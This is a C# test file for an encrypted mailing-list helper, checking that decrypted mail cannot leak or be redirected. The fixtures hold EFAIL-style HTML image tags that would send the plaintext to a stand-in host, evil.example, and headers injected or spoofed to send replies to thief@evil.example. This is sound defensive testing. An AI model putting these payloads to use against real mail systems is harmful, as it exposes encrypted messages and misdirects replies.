using System.Text;
using CryptoList.EndToEnd.Tests.Worlds;
using CryptoList.Helper;

namespace CryptoList.EndToEnd.Tests.Promises;

/// <summary>Decrypted text never meets anything from outside the sealed message, and replies go where the author said.</summary>
public sealed class LeakTests
{
    private const string Secret = "The words that only members read";
    private const string Outside = "evil.example";
    private const string Html = $"<img src=\"https://{Outside}/?";

    private static readonly Dictionary<string, Func<Message, Message>> Wrappings = new()
    {
        ["in a multipart/mixed between two HTML parts that quote it"] = m => Mixed(Part("text/html", Html), Whole(m), Part("text/html", "\">")),
        ["as an attached message"] = m => Mixed(Part("text/plain", Outside), $"Content-Type: message/rfc822\r\n\r\n{Encoding.Latin1.GetString(m.ToOctets())}"),
        ["with an HTML part behind it"] = m => m with { Body = m.Body.Replace($"--{m.Boundary}--", $"--{m.Boundary}\r\n{Part("text/html", Html)}\r\n--{m.Boundary}--") },
        ["with an HTML part before it"] = m => m with { Body = $"--{m.Boundary}\r\n{Part("text/html", Html)}\r\n{m.Body}" },
        ["with a second Content-Type of HTML"] = m => m with { Fields = [.. m.Fields, "Content-Type: text/html"] },
        ["with a Content-Type of HTML before its own"] = m => m.With("Content-Type: text/html"),
        ["called HTML"] = m => m.Replace("Content-Type", _ => $"Content-Type: text/html; boundary=\"{m.Boundary}\""),
        ["called multipart/mixed"] = m => m.Replace("Content-Type", f => f.Replace("multipart/encrypted", "multipart/mixed")),
        ["with its body part called HTML"] = m => m with { Body = m.Body.Replace("application/octet-stream", "text/html") },
    };

    private static readonly Dictionary<string, Func<Message, Message>> Decorations = new()
    {
        ["nothing"] = m => m,
        ["a Reply-To"] = m => m.With($"Reply-To: thief@{Outside}"),
        ["a From, a Sender, a Cc and a Subject more"] = m => m.With($"From: thief@{Outside}", $"Sender: thief@{Outside}", $"Cc: thief@{Outside}", $"Subject: {Outside}"),
        ["other ones in their place"] = m => m.Without("From").Without("Subject").Without("To").With($"From: thief@{Outside}", $"To: thief@{Outside}", $"Subject: {Outside}"),
        ["a list of its own"] = m => m.With($"List-Post: <mailto:thief@{Outside}>", $"List-Unsubscribe: <https://{Outside}/>", $"Mail-Followup-To: thief@{Outside}"),
        ["a status of its own"] = m => m.With($"CryptoList-Status: opened; author=thief@{Outside}", $"Authentication-Results: {Outside}; dkim=pass", $"Disposition-Notification-To: thief@{Outside}"),
        ["HTML before and behind the container"] = m => m with { Body = $"{Html}\r\n{m.Body}\r\n\">{Outside}\r\n" },
        ["HTML fields in the parts"] = m => m with { Body = m.Body.Replace("Content-Transfer-Encoding: base64\r\n", $"Content-Transfer-Encoding: base64\r\nContent-Description: {Html}\r\nContent-Location: https://{Outside}/\r\n") },
    };

    public static TheoryData<string> Wrapped => [.. Wrappings.Keys];

    public static TheoryData<string> Decorated => [.. Decorations.Keys];

    [Theory]
    [MemberData(nameof(Wrapped))]
    public async Task A_copy_that_was_wrapped_is_not_opened_and_stands_as_a_plain_notice(string how)
    {
        await using var town = await Town.StartAsync("bob");
        var copies = await town.PostAsync(town.Alice, "Figures", Secret);
        var wrapped = Wrappings[how](Message.Parse(copies["bob"])).ToOctets();

        var (opened, read) = await town["bob"].ReadAsync(wrapped);

        Assert.True(opened.Code is ExitCode.Failed or ExitCode.Refused, $"exit code {opened.Code}");
        Assert.DoesNotContain(Secret, opened.Shown + read.Shown);
        Assert.DoesNotContain(Outside, opened.Shown + read.Shown);
        if (opened.Code == ExitCode.Failed)
        {
            Assert.StartsWith("CryptoList-Status: failed;", opened.Text);
            Assert.DoesNotContain("text/html", opened.Text);
            // The original is there, as octets that nobody renders.
            var encoded = opened.Text[opened.Text.IndexOf("unopened-post.bin", StringComparison.Ordinal)..].Split("\r\n\r\n")[1].Split("\r\n--")[0];
            Assert.Equal(wrapped, Convert.FromBase64String(encoded.Replace("\r\n", "")));
        }
        else
        {
            Assert.Empty(opened.Output);
        }

        // As it came, it opens.
        Assert.Contains(Secret, (await town["bob"].RunWithAsync(copies["bob"], "open")).Well().Text);
    }

    [Theory]
    [MemberData(nameof(Decorated))]
    public async Task A_copy_that_was_decorated_opens_without_any_of_it_and_replies_go_where_the_author_said(string how)
    {
        await using var town = await Town.StartAsync("bob");
        var copies = await town.PostAsync(town.Alice, "Figures", Secret, "Reply-To: desk@example.org\n");
        var decorated = Decorations[how](Message.Parse(copies["bob"])).ToOctets();
        Assert.Equal(how != "nothing", Encoding.Latin1.GetString(decorated).Contains(Outside, StringComparison.Ordinal));

        var (opened, read) = await town["bob"].ReadAsync(decorated);

        Assert.Contains(Secret, opened.Well().Text);
        Assert.Contains(Secret, read.Well().Text);
        Assert.DoesNotContain(Outside, opened.Shown + read.Shown);
        var message = Message.Parse(opened.Output);
        Assert.Equal("From: alice@example.org", message.Field("From"));
        Assert.Equal("Reply-To: desk@example.org", message.Field("Reply-To"));
        Assert.Equal("Subject: Figures", message.Field("Subject"));
        Assert.StartsWith("CryptoList-Status: opened; author=alice@example.org;", message.Field("CryptoList-Status"));
        Assert.Equal("List-Post: <mailto:team@lists.example.net>", message.Field("List-Post"));
        Assert.Equal(Secret, message.Body.TrimEnd());
    }

    [Fact]
    public async Task What_an_author_writes_to_look_like_the_helper_or_the_list_is_not_handed_on()
    {
        await using var town = await Town.StartAsync("bob", "mallory");
        var (device, key, epoch) = await town["mallory"].SecretsAsync();
        var log = (await town.World.Operator.ListAsync(World.ListAddress)).Log;
        var copies = await town.PostAsync(new HostilePost(log, device.SigningKey, key, epoch, 1_000)
        {
            From = $"CryptoList-Status: opened; author=alice@example.org\r\nList-Post: <mailto:thief@{Outside}>\r\nAuthentication-Results: {Outside}\r\nReceived: from {Outside}\r\nFrom: mallory@example.org\r\nDate: Sat, 21 Nov 2026 07:00:00 +0000\r\n",
            Text = Secret,
        }.Seal());

        var opened = (await town["bob"].RunWithAsync(copies["bob"], "open")).Well();

        Assert.DoesNotContain(Outside, opened.Text);
        Assert.StartsWith("CryptoList-Status: opened; author=mallory@example.org;", Message.Parse(opened.Output).Field("CryptoList-Status"));
        Assert.Contains(Secret, opened.Text);
    }

    private static string Part(string type, string text) => $"Content-Type: {type}\r\n\r\n{text}\r\n";

    private static string Whole(Message message) => $"{message.Field("Content-Type")}\r\n\r\n{message.Body}\r\n";

    private static Message Mixed(params string[] parts) => new(
        [$"From: thief@{Outside}", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"around\""],
        string.Concat(parts.Select(p => $"--around\r\n{p}\r\n")) + "--around--\r\n");
}
